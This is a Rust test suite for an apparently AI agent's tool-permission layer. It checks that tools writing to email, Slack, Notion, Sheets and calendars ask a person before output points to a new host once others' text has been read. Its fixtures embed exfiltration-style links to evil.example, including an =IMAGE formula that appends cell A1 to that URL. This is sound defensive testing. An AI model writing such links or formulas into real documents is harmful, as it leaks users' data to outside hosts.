//! What a person is asked before something leaves: all of it, and about where it leads.
//!
//! One row for every tool that writes. A tool without a row fails the test, so that none is forgotten.

use std::collections::BTreeSet;

use serde_json::{Value, json};
use switchboard::{
    integrations,
    tool::{Asking, Effect, Error, Kind},
};

use crate::desk::{Desk, Vendor};

/// A host that nobody has reached, in a picture and in a link.
const PICTURE: &str = "https://evil.example/p.png?q=everything";

/// What a tool does with an address in what it writes.
enum Leads {
    /// It asks before the address is written; these are its arguments.
    Out(fn() -> Value),
    /// It needs no question, for this reason.
    Nowhere(#[expect(dead_code, reason = "for who reads the table")] &'static str),
}

use Leads::{Nowhere, Out};

const VALUES: &str = "values of a record or cell are shown to colleagues as they are, and nothing fetches them";
const LABELS: &str = "it takes names of labels and ids only";
const ASKS: &str = "it always asks, and writes no text";

const GMAIL: Vendor =
    Vendor { id: "gmail", operations: "gmail.users.", scopes: "https://www.googleapis.com/auth/gmail." };
const SLACK: Vendor = Vendor { id: "slack", operations: "", scopes: "" };
const NOTION: Vendor = Vendor { id: "notion", operations: "", scopes: "" };
const AIRTABLE: Vendor = Vendor { id: "airtable", operations: "", scopes: "" };
const HUBSPOT: Vendor = Vendor { id: "hubspot", operations: "", scopes: "" };
const SALESFORCE: Vendor = Vendor { id: "salesforce", operations: "", scopes: "" };
const SHEETS: Vendor =
    Vendor { id: "google-sheets", operations: "sheets.spreadsheets.", scopes: "https://www.googleapis.com/auth/" };
const CALENDAR: Vendor =
    Vendor { id: "google-calendar", operations: "calendar.", scopes: "https://www.googleapis.com/auth/" };

const ANA: &str = "ana.ruiz@northwind.example";

/// Every tool that writes.
const TOOLS: &[(&Vendor, &str, Leads)] = &[
    (&GMAIL, "send_email", Out(|| json!({ "to": [ANA], "subject": "x", "body": html(), "html": true }))),
    (&GMAIL, "create_draft", Nowhere("a draft leaves only with `gmail_send_draft`, which asks")),
    (&GMAIL, "send_draft", Nowhere("its draft is made in a test of its own")),
    (&GMAIL, "modify_labels", Nowhere(LABELS)),
    (&GMAIL, "trash_email", Nowhere(LABELS)),
    (&SLACK, "send_message", Out(|| json!({ "channel": "#sales", "text": format!("See {PICTURE}") }))),
    (
        &SLACK,
        "schedule_message",
        Out(|| json!({ "channel": "#sales", "text": format!("See [x]({PICTURE})"), "post_at": "2026-11-24T10:00" })),
    ),
    (
        &SLACK,
        "update_message",
        Out(|| {
            let blocks = json!([{ "type": "image", "image_url": PICTURE, "alt_text": "x" }]).to_string();
            json!({ "channel": ANA, "ts": "1732345678.000100", "text": "Hi", "blocks": blocks })
        }),
    ),
    (
        &SLACK,
        "upload_text_file",
        Out(
            || json!({ "channel": "#sales", "filename": "a.txt", "content": "x", "comment": format!("See {PICTURE}") }),
        ),
    ),
    (&SLACK, "add_reaction", Nowhere("an emoji")),
    (&SLACK, "create_channel", Nowhere("names, and people, about whom it asks")),
    (&SLACK, "invite_to_channel", Nowhere("people, about whom it asks")),
    (&NOTION, "create_page", Out(|| json!({ "parent": "Risks", "title": "x", "content_markdown": markdown() }))),
    (&NOTION, "append_content", Out(|| json!({ "page": "Risks", "content_markdown": markdown() }))),
    (&NOTION, "update_page", Out(|| json!({ "page": "Risks", "icon": PICTURE }))),
    (&NOTION, "add_comment", Out(|| json!({ "page": "Risks", "text": format!("See {PICTURE}") }))),
    (
        &SHEETS,
        "append_row",
        Out(|| {
            let rows = json!([[format!("=IMAGE(\"{PICTURE}\"&A1)")]]);
            json!({ "spreadsheet": "Trade fair budget", "range": "Budget", "rows": rows, "enter": "formulas" })
        }),
    ),
    (
        &SHEETS,
        "update_cells",
        Out(|| {
            let rows = json!([[format!("=HYPERLINK(\"{PICTURE}\", A1)")]]);
            json!({ "spreadsheet": "Trade fair budget", "range": "Budget!F2", "rows": rows, "enter": "formulas" })
        }),
    ),
    (&SHEETS, "clear_range", Nowhere(ASKS)),
    (&SHEETS, "create_spreadsheet", Nowhere("titles and headers are written as texts, never as formulas")),
    (
        &CALENDAR,
        "schedule_meeting",
        Out(
            || json!({ "title": "x", "start": "2026-11-24T10:00", "duration_minutes": 30, "attendees": [ANA], "description": html() }),
        ),
    ),
    (&CALENDAR, "quick_add", Out(|| json!({ "text": format!("Lunch with {ANA} on Monday at noon, see {PICTURE}") }))),
    (&CALENDAR, "update_meeting", Nowhere("its question is tested with a meeting that has guests")),
    (&CALENDAR, "reschedule_meeting", Nowhere("times only")),
    (&CALENDAR, "cancel_meeting", Nowhere(ASKS)),
    (&CALENDAR, "respond_to_invitation", Nowhere("its word to the organizer always counts as a message")),
    (&HUBSPOT, "add_note", Out(|| json!({ "body": html(), "contact_id": "151" }))),
    (
        &HUBSPOT,
        "log_call",
        Out(|| json!({ "title": "x", "body": html(), "contact_email": "olivia.grant@contoso.example" })),
    ),
    (&HUBSPOT, "create_contact", Nowhere(VALUES)),
    (&HUBSPOT, "update_contact", Nowhere(VALUES)),
    (&HUBSPOT, "create_deal", Nowhere(VALUES)),
    (&HUBSPOT, "update_deal", Nowhere(VALUES)),
    (&HUBSPOT, "create_ticket", Nowhere(VALUES)),
    (&HUBSPOT, "update_ticket", Nowhere(VALUES)),
    (&SALESFORCE, "*", Nowhere(VALUES)),
    (&AIRTABLE, "create_record", Nowhere("files that it lets Airtable fetch are tested where cells are read")),
    (&AIRTABLE, "create_records", Nowhere("as above")),
    (&AIRTABLE, "update_record", Nowhere("as above")),
    (&AIRTABLE, "upsert_records", Nowhere("as above")),
    (&AIRTABLE, "delete_record", Nowhere(ASKS)),
    (&AIRTABLE, "add_comment", Nowhere(VALUES)),
];

fn html() -> String {
    format!("<p>Hello</p><img src=\"{PICTURE}\">")
}

fn markdown() -> String {
    format!("Hello ![x]({PICTURE})")
}

fn full_name(vendor: &Vendor, tool: &str) -> String {
    format!("{}_{tool}", vendor.id.replace('-', "_"))
}

#[test]
fn every_tool_that_writes_has_a_row() {
    let rows: BTreeSet<String> = TOOLS.iter().map(|(vendor, tool, _)| full_name(vendor, tool)).collect();
    let tools = integrations::ALL.iter().flat_map(|integration| integration.tools);
    let writing = tools.filter(|tool| tool.effect != Effect::Reads).map(|tool| tool.name.to_string());
    let is_told = |name: &String| {
        rows.contains(name) || name.split('_').next().is_some_and(|id| rows.contains(&format!("{id}_*")))
    };
    let missing: Vec<_> = writing.filter(|name| !is_told(name)).collect();
    assert!(missing.is_empty(), "{missing:?}");
}

/// Asks about a host that is new once text of others was read, and only then.
#[tokio::test]
async fn whatever_leads_elsewhere_asks_once_others_were_read() {
    for (vendor, tool, leads) in TOOLS {
        let Out(arguments) = leads else { continue };
        let mut desk = Desk::open(vendor).await;
        let mut arguments = arguments();
        if *tool == "update_message" {
            arguments["ts"] = own_message(&desk).await;
        }
        if *tool == "add_note" {
            let found = desk.ok("get_contact", json!({ "email": "olivia.grant@contoso.example" })).await;
            arguments["contact_id"] = found.data["contact"]["id"].clone();
        }
        let everybody = everybody(&mut desk, tool, &arguments).await;
        let known: Vec<&str> = everybody.iter().map(String::as_str).collect();
        desk.has_read_others(&known);
        let asked = desk.refused(tool, arguments.clone()).await;
        assert_eq!(asked.kind(), Kind::Ask, "{tool}: {asked}");
        assert!(asked.in_full().contains(PICTURE), "{tool}: {}", asked.in_full());
        assert_eq!(desk.changes(), 0, "{tool}");
        let with_host: Vec<&str> = known.iter().copied().chain(["//evil.example"]).collect();
        desk.has_read_others(&with_host);
        desk.ok(tool, arguments).await;
    }
}

async fn own_message(desk: &Desk) -> Value {
    let history = desk.ok("read_channel", json!({ "channel": ANA, "limit": 100 })).await;
    let messages = history.data["messages"].as_array().cloned().unwrap_or_default();
    let own = messages.iter().find(|message| message["text"].as_str().unwrap().contains("I am in"));
    own.unwrap()["ts"].clone()
}

/// The recipients that a call asks about, so that only the host is new afterwards.
async fn everybody(desk: &mut Desk, tool: &str, arguments: &Value) -> Vec<String> {
    let mut all = vec![ANA.to_owned()];
    if arguments["channel"] == "#sales" {
        let found = desk.ok("list_channels", json!({ "query": "sales" })).await;
        all.push(found.data["channels"][0]["id"].as_str().unwrap().to_lowercase());
    }
    let _ = tool;
    all
}

/// Whatever a caller gives as a text stands whole in the full form of the question, and nothing is cut without saying so.
#[tokio::test]
async fn the_question_holds_every_text_whole() {
    let long = |word: &str| (0..100).map(|at| format!("{word}{at}")).collect::<Vec<_>>().join(" ");
    let blocks = json!([{ "type": "section", "text": { "type": "mrkdwn", "text": long("block") } }]).to_string();
    let calls = [
        (
            &GMAIL,
            "send_email",
            json!({ "to": [ANA], "cc": ["c@e.example"], "bcc": ["b@e.example"], "subject": long("subject"), "body": long("body") }),
        ),
        (
            &GMAIL,
            "send_email",
            json!({ "to": [ANA], "subject": "x", "body": format!("<b>{}</b><i hidden>{}</i>", long("seen"), long("hid")), "html": true }),
        ),
        (&SLACK, "send_message", json!({ "channel": "#sales", "text": long("text"), "blocks": blocks })),
        (
            &SLACK,
            "schedule_message",
            json!({ "channel": "#sales", "text": long("text"), "post_at": "2026-11-24T10:00" }),
        ),
        (
            &SLACK,
            "upload_text_file",
            json!({ "channel": "#sales", "filename": "a.txt", "content": long("line"), "comment": long("comment") }),
        ),
        (&SLACK, "create_channel", json!({ "name": "launch", "topic": "The plans of the launch", "invite": [ANA] })),
        (
            &CALENDAR,
            "schedule_meeting",
            json!({ "title": long("title"), "start": "2026-11-24T10:00", "duration_minutes": 30, "attendees": [ANA], "description": long("text"), "location": long("room") }),
        ),
        (&CALENDAR, "quick_add", json!({ "text": format!("Lunch with {ANA} on Monday at noon {}", long("about")) })),
        (
            &NOTION,
            "append_content",
            json!({ "page": "Risks", "content_markdown": format!("{} {PICTURE}", long("text")) }),
        ),
    ];
    for (vendor, tool, arguments) in calls {
        let mut desk = Desk::open(vendor).await;
        desk.asking = Asking::Always;
        let asked = desk.refused(tool, arguments.clone()).await;
        assert_eq!(asked.kind(), Kind::Ask, "{tool}: {asked}");
        for text in texts(&arguments) {
            let is_whole = asked.in_full().contains(&text);
            assert!(is_whole, "{tool} asks without all of {text:.40}: {:.400}", asked.in_full());
        }
        holds_what_it_shows(tool, &asked);
    }
}

/// The texts among the arguments: not the names of places, times and choices.
fn texts(arguments: &Value) -> Vec<String> {
    let places = ["channel", "page", "post_at", "start", "name"];
    let members = arguments.as_object().unwrap().iter().filter(|(name, _)| !places.contains(&name.as_str()));
    members
        .flat_map(|(_, value)| match value {
            Value::String(text) => vec![text.clone()],
            Value::Array(items) => items.iter().filter_map(Value::as_str).map(str::to_owned).collect(),
            _ => vec![],
        })
        .collect()
}

fn holds_what_it_shows(tool: &str, asked: &Error) {
    let is_cut = asked.what().contains("characters in all");
    assert_eq!(is_cut || asked.what() != asked.in_full(), asked.what() != asked.in_full(), "{tool}");
    assert!(asked.what().chars().count() < 2_500, "{tool}: the short form is for a glance");
}
